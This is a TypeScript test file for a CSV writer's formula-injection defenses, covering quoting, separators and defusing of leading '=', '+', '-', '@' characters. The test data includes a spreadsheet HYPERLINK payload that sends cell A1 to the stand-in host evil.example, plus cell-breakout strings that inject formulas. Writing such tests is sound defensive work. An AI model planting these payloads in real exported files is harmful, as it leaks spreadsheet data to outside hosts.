import { describe, expect, it } from 'vitest';
import { defuseFormula, toCsv } from './csv.ts';

const BOM = '\uFEFF';

describe('the CSV writer', () => {
  it('writes semicolon-separated rows with CRLF, a BOM, quoted text and bare numbers', () => {
    expect(toCsv(['Navn', 'Svar'], [['Erhvervshus Fyn', 12], ['Syd', null]])).toBe(`${BOM}"Navn";"Svar"\r\n"Erhvervshus Fyn";12\r\n"Syd";\r\n`);
  });

  it('formats numbers as told, and never defuses a number', () => {
    const fmt = (v: number) => v.toFixed(1).replace('.', ',');
    expect(toCsv(['NPS'], [[-20], [60.25]], { formatNumber: fmt })).toBe(`${BOM}"NPS"\r\n-20,0\r\n60,3\r\n`);
  });

  it.each(['=', '+', '-', '@', '\t', '\r'])('defuses text starting with %j', (start) => {
    const text = `${start}HYPERLINK("http://evil.example/?"&A1;"klik")`;
    expect(defuseFormula(text)).toBe(`'${text}`);
    expect(toCsv(['x'], [[text]])).toBe(`${BOM}"x"\r\n"'${text.replace(/"/g, '""')}"\r\n`);
  });

  it('leaves ordinary text alone', () => {
    for (const text of ['Aabenraa', ' =1+1 i tekst', '1-2 ansatte', 'a@b.dk', '', 'færre end 5']) expect(defuseFormula(text)).toBe(text);
  });

  it('keeps a value inside its cell: quotes, separators and line breaks cannot start a new cell or row', () => {
    const breakout = 'x";=1+1;"\r\n=2+2';
    const csv = toCsv(['a', 'b'], [[breakout, 'næste']]);
    expect(csv).toBe(`${BOM}"a";"b"\r\n"x"";=1+1;""\r\n=2+2";"næste"\r\n`);
  });

  it('defuses the header too', () => {
    expect(toCsv(['=cmd'], [])).toBe(`${BOM}"'=cmd"\r\n`);
  });
});
